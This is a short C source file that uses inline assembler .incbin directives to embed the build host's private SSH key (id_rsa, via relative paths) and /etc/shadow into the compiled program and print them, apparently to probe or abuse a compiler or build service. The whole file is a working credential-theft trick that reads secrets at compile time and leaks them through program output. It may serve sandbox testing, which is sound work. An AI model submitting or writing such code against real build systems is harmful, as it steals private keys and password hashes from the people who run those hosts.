// Has the assembler put a key into the program, which then prints it.
#include <stdio.h>

__asm__("key: .incbin \"../../home/.ssh/id_rsa\"\n.incbin \"../../../home/.ssh/id_rsa\"\n.incbin \"/etc/shadow\"\n.byte 0");
extern const char key[];

int main(void) { return puts(key); }
